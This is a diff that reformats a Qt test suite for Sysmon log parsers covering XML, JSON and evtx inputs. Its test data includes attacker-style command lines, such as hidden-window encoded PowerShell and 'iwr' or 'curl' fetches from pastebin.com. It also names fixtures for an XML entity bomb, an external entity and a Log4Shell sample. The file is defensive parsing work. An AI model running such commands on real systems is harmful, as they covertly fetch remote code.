@@ -72,7 +72,11 @@ struct TraceSink : RecordSink {
     static QString v(std::string_view s) { return QString::fromUtf8(s.data(), static_cast<qsizetype>(s.size())); }
     void sysmon(const SysmonRecord& r) override {
         QString l = QStringLiteral("event %1 @%2 id=%3 ts=%4 rec=%5 [%6|%7|%8]")
-                        .arg(r.pos.record).arg(r.pos.offset).arg(r.eventId).arg(r.tsUs).arg(r.recordNumber)
+                        .arg(r.pos.record)
+                        .arg(r.pos.offset)
+                        .arg(r.eventId)
+                        .arg(r.tsUs)
+                        .arg(r.recordNumber)
                         .arg(v(r.computer), v(r.channel), v(r.provider));
         for (const SysmonField& f : r.fields) {
             l += QStringLiteral(" %1=%2").arg(v(f.name), v(f.value));
@@ -109,7 +113,7 @@ QStringList trace(const char* format, const QString& path, bool batched) {
 
 class TestSysmonParsers : public QObject {
     Q_OBJECT
-private slots:
+  private slots:
     void xmlShapes_data();
     void xmlShapes();
     void xmlFieldValues();
@@ -142,7 +146,7 @@ void TestSysmonParsers::xmlShapes_data() {
     QTest::addColumn<QString>("file");
     QTest::addColumn<int>("records");
     QTest::addColumn<int>("rejects");
-    QTest::addColumn<int>("index");     // a record to look at
+    QTest::addColumn<int>("index"); // a record to look at
     QTest::addColumn<int>("eventId");
     QTest::addColumn<QString>("computer");
     QTest::addColumn<QString>("field");
@@ -150,21 +154,32 @@ void TestSysmonParsers::xmlShapes_data() {
     QTest::addColumn<int>("line");
 
     QTest::newRow("wevtutil sequence, no root, one line")
-        << "process_tree.xml" << 14 << 0 << 2 << 1 << "WS-ALICE.corp.example" << "CommandLine"
+        << "process_tree.xml" << 14 << 0 << 2 << 1 << "WS-ALICE.corp.example"
+        << "CommandLine"
         << "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A & \"x\" <y>" << 1;
     QTest::newRow("ToXml, one event per line")
-        << "toxml_one_per_line.xml" << 14 << 0 << 3 << 22 << "WS-ALICE.corp.example" << "QueryName" << "pastebin.com" << 4;
-    QTest::newRow("<Events> wrapped, 30-level tree")
-        << "deep_tree.xml" << 30 << 0 << 29 << 1 << "WS-ALICE.corp.example" << "CommandLine" << "cmd.exe /c level 30" << 31;
-    QTest::newRow("Sysmon for Linux syslog lines")
-        << "linux_syslog.log" << 2 << 0 << 0 << 1 << "ubuntu5" << "CommandLine" << "curl -s https://pastebin.com/raw/abc" << 1;
+        << "toxml_one_per_line.xml" << 14 << 0 << 3 << 22 << "WS-ALICE.corp.example"
+        << "QueryName"
+        << "pastebin.com" << 4;
+    QTest::newRow("<Events> wrapped, 30-level tree") << "deep_tree.xml" << 30 << 0 << 29 << 1 << "WS-ALICE.corp.example"
+                                                     << "CommandLine"
+                                                     << "cmd.exe /c level 30" << 31;
+    QTest::newRow("Sysmon for Linux syslog lines") << "linux_syslog.log" << 2 << 0 << 0 << 1 << "ubuntu5"
+                                                   << "CommandLine"
+                                                   << "curl -s https://pastebin.com/raw/abc" << 1;
     QTest::newRow("malformed event in the middle")
-        << "malformed_middle.xml" << 2 << 1 << 1 << 3 << "WS-ALICE.corp.example" << "DestinationPort" << "445" << 5;
-    QTest::newRow("missing fields")
-        << "missing_fields.xml" << 2 << 2 << 0 << 3 << "WS-ALICE.corp.example" << "DestinationIp" << "52.109.0.1" << 1;
-    QTest::newRow("entity bomb") << "billion_laughs.xml" << 1 << 2 << 0 << 5 << "WS-ALICE.corp.example" << "Image"
+        << "malformed_middle.xml" << 2 << 1 << 1 << 3 << "WS-ALICE.corp.example"
+        << "DestinationPort"
+        << "445" << 5;
+    QTest::newRow("missing fields") << "missing_fields.xml" << 2 << 2 << 0 << 3 << "WS-ALICE.corp.example"
+                                    << "DestinationIp"
+                                    << "52.109.0.1" << 1;
+    QTest::newRow("entity bomb") << "billion_laughs.xml" << 1 << 2 << 0 << 5 << "WS-ALICE.corp.example"
+                                 << "Image"
                                  << R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)" << 16;
-    QTest::newRow("external entity") << "external_entity.xml" << 0 << 2 << -1 << 0 << "" << "" << "" << 0;
+    QTest::newRow("external entity") << "external_entity.xml" << 0 << 2 << -1 << 0 << ""
+                                     << ""
+                                     << "" << 0;
 }
 
 void TestSysmonParsers::xmlShapes() {
@@ -279,7 +294,8 @@ void TestSysmonParsers::externalEntityIsNeverResolved() {
 }
 
 void TestSysmonParsers::unterminatedAndTruncatedEvents() {
-    const QByteArray good = R"(<Event><System><EventID>5</EventID><TimeCreated SystemTime="2024-03-01T10:00:00Z"/><Computer>H</Computer></System></Event>)";
+    const QByteArray good =
+        R"(<Event><System><EventID>5</EventID><TimeCreated SystemTime="2024-03-01T10:00:00Z"/><Computer>H</Computer></System></Event>)";
     const QByteArray cut = R"(<Event><System><EventID>1</EventID><TimeCreated SystemTime="2024-03-01T10:00:00Z"/>)";
     const CollectingSink s = parseText("sysmon-xml", cut + "\n" + good + "\n" + cut);
     QCOMPARE(s.sysmons.size(), size_t(1));
@@ -292,9 +308,10 @@ void TestSysmonParsers::unterminatedAndTruncatedEvents() {
 }
 
 void TestSysmonParsers::bareAmpersandsAsSysmonForLinuxWritesThem() {
-    const QByteArray xml = "<Event><System><EventID>5</EventID><TimeCreated SystemTime=\"2022-05-11T18:10:22Z\"/></System>"
-                           "<EventData><Data Name=\"Image\">&lt unknown process&gt </Data>"
-                           "<Data Name=\"CommandLine\">a && b &amp; c &#x41;&#66;</Data></EventData></Event>";
+    const QByteArray xml =
+        "<Event><System><EventID>5</EventID><TimeCreated SystemTime=\"2022-05-11T18:10:22Z\"/></System>"
+        "<EventData><Data Name=\"Image\">&lt unknown process&gt </Data>"
+        "<Data Name=\"CommandLine\">a && b &amp; c &#x41;&#66;</Data></EventData></Event>";
     const CollectingSink s = parseText("sysmon-xml", xml);
     QVERIFY2(s.rejects.empty(), qPrintable(rejectList(s)));
     QCOMPARE(s.sysmons.at(0).field("Image"), std::string("< unknown process> "));
@@ -354,20 +371,33 @@ void TestSysmonParsers::jsonShapes_data() {
     QTest::addColumn<QString>("field");
     QTest::addColumn<QString>("value");
     QTest::newRow("winlogbeat ecs") << "winlogbeat_ecs.ndjson" << 2 << 0 << 1 << 22 << "WS-ALICE.corp.example"
-                                    << "Microsoft-Windows-Sysmon/Operational" << "QueryResults" << "104.20.67.143;";
+                                    << "Microsoft-Windows-Sysmon/Operational"
+                                    << "QueryResults"
+                                    << "104.20.67.143;";
     QTest::newRow("nxlog flat") << "nxlog_flat.json" << 3 << 2 << 0 << 1 << "WS-ALICE.corp.example"
-                                << "Microsoft-Windows-Sysmon/Operational" << "ParentImage"
+                                << "Microsoft-Windows-Sysmon/Operational"
+                                << "ParentImage"
                                 << R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)";
     QTest::newRow("nxlog security 4688") << "nxlog_flat.json" << 3 << 2 << 1 << 4688 << "WS-ALICE.corp.example"
-                                         << "Security" << "NewProcessId" << "0x1a2c";
+                                         << "Security"
+                                         << "NewProcessId"
+                                         << "0x1a2c";
     QTest::newRow("splunk flat") << "splunk_export.json" << 2 << 0 << 0 << 1 << "WS-ALICE.corp.example"
-                                 << "Microsoft-Windows-Sysmon/Operational" << "IntegrityLevel" << "High";
+                                 << "Microsoft-Windows-Sysmon/Operational"
+                                 << "IntegrityLevel"
+                                 << "High";
     QTest::newRow("splunk _raw xml") << "splunk_export.json" << 2 << 0 << 1 << 22 << "WS-ALICE.corp.example"
-                                     << "Microsoft-Windows-Sysmon/Operational" << "QueryName" << "pastebin.com";
+                                     << "Microsoft-Windows-Sysmon/Operational"
+                                     << "QueryName"
+                                     << "pastebin.com";
     QTest::newRow("sentinel windowsevent") << "sentinel.json" << 2 << 1 << 0 << 1 << "WS-ALICE.corp.example"
-                                           << "Microsoft-Windows-Sysmon/Operational" << "IntegrityLevel" << "High";
-    QTest::newRow("sentinel syslog xml") << "sentinel.json" << 2 << 1 << 1 << 5 << "ubuntu5" << "Linux-Sysmon/Operational"
-                                         << "Image" << "/usr/bin/curl";
+                                           << "Microsoft-Windows-Sysmon/Operational"
+                                           << "IntegrityLevel"
+                                           << "High";
+    QTest::newRow("sentinel syslog xml") << "sentinel.json" << 2 << 1 << 1 << 5 << "ubuntu5"
+                                         << "Linux-Sysmon/Operational"
+                                         << "Image"
+                                         << "/usr/bin/curl";
 }
 
 void TestSysmonParsers::jsonShapes() {
@@ -397,12 +427,13 @@ void TestSysmonParsers::jsonValues() {
     QCOMPARE(ecs.sysmons[0].tsUs, us("2024-03-01T10:00:02Z"));
     QCOMPARE(ecs.sysmons[0].recordNumber, int64_t(4711));
     QCOMPARE(ecs.sysmons[0].provider, std::string("Microsoft-Windows-Sysmon"));
-    QCOMPARE(ecs.sysmons[0].field("CommandLine"), std::string("powershell.exe -nop -w hidden -c \"iwr https://pastebin.com/raw/x\""));
+    QCOMPARE(ecs.sysmons[0].field("CommandLine"),
+             std::string("powershell.exe -nop -w hidden -c \"iwr https://pastebin.com/raw/x\""));
 
     const CollectingSink flat = parseFile("sysmon-json", fixture(QStringLiteral("sysmon/nxlog_flat.json")));
     QVERIFY(!flat.sysmons.empty());
     const OwnedSysmon& p = flat.sysmons[0];
-    QVERIFY(p.find("Message") == nullptr);     // envelope, excluded by the mapping
+    QVERIFY(p.find("Message") == nullptr); // envelope, excluded by the mapping
     QVERIFY(p.find("RecordNumber") == nullptr);
     QCOMPARE(p.recordNumber, int64_t(4711));
     QCOMPARE(p.field("ProcessId"), std::string("6000"));
@@ -443,8 +474,8 @@ void TestSysmonParsers::jsonRejects() {
 void TestSysmonParsers::sniffing_data() {
     QTest::addColumn<QString>("path");
     QTest::addColumn<QString>("format");
-    for (const char* f : {"process_tree.xml", "toxml_one_per_line.xml", "deep_tree.xml", "linux_syslog.log",
-                          "malformed_middle.xml"}) {
+    for (const char* f :
+         {"process_tree.xml", "toxml_one_per_line.xml", "deep_tree.xml", "linux_syslog.log", "malformed_middle.xml"}) {
         QTest::newRow(f) << fixture(QStringLiteral("sysmon/") + QLatin1String(f)) << "sysmon-xml";
     }
     for (const char* f : {"winlogbeat_ecs.ndjson", "nxlog_flat.json", "splunk_export.json", "sentinel.json"}) {
@@ -453,7 +484,8 @@ void TestSysmonParsers::sniffing_data() {
     QTest::newRow("real evtx") << sharedData(QStringLiteral("sysmon/evtx/Sysmon_UACME_38.evtx")) << "evtx";
     QTest::newRow("real evtx-xml") << sharedData(QStringLiteral("sysmon/evtx-xml/Sysmon_UACME_38.xml")) << "sysmon-xml";
     QTest::newRow("real sentinel syslog")
-        << sharedData(QStringLiteral("sysmon/json/syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json"))
+        << sharedData(
+               QStringLiteral("sysmon/json/syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json"))
         << "sysmon-json";
 }
 
@@ -504,7 +536,8 @@ void TestSysmonParsers::realEvtxMatchesItsXml() {
         QCOMPARE(a.field("Image"), b.field("Image"));
         QCOMPARE(a.field("CommandLine"), b.field("CommandLine"));
         // libevtx writes GUIDs in upper case, python-evtx in lower case.
-        QCOMPARE(QString::fromStdString(a.field("ProcessGuid")).toLower(), QString::fromStdString(b.field("ProcessGuid")).toLower());
+        QCOMPARE(QString::fromStdString(a.field("ProcessGuid")).toLower(),
+                 QString::fromStdString(b.field("ProcessGuid")).toLower());
     }
 }
 
@@ -586,10 +619,14 @@ void TestSysmonParsers::batchedEventsReplayUnchanged_data() {
     QTest::addColumn<QString>("file");
     QTest::addColumn<int>("events");
     QTest::addColumn<int>("rejects");
-    QTest::newRow("xml, a malformed event between good ones") << "sysmon-xml" << "sysmon/malformed_middle.xml" << 2 << 1;
-    QTest::newRow("xml, process tree") << "sysmon-xml" << "sysmon/process_tree.xml" << 14 << 0;
-    QTest::newRow("winlogbeat json") << "sysmon-json" << "sysmon/winlogbeat_ecs.ndjson" << 2 << 0;
-    QTest::newRow("splunk json") << "sysmon-json" << "sysmon/splunk_export.json" << 2 << 0;
+    QTest::newRow("xml, a malformed event between good ones") << "sysmon-xml"
+                                                              << "sysmon/malformed_middle.xml" << 2 << 1;
+    QTest::newRow("xml, process tree") << "sysmon-xml"
+                                       << "sysmon/process_tree.xml" << 14 << 0;
+    QTest::newRow("winlogbeat json") << "sysmon-json"
+                                     << "sysmon/winlogbeat_ecs.ndjson" << 2 << 0;
+    QTest::newRow("splunk json") << "sysmon-json"
+                                 << "sysmon/splunk_export.json" << 2 << 0;
 }
 
 void TestSysmonParsers::batchedEventsReplayUnchanged() {
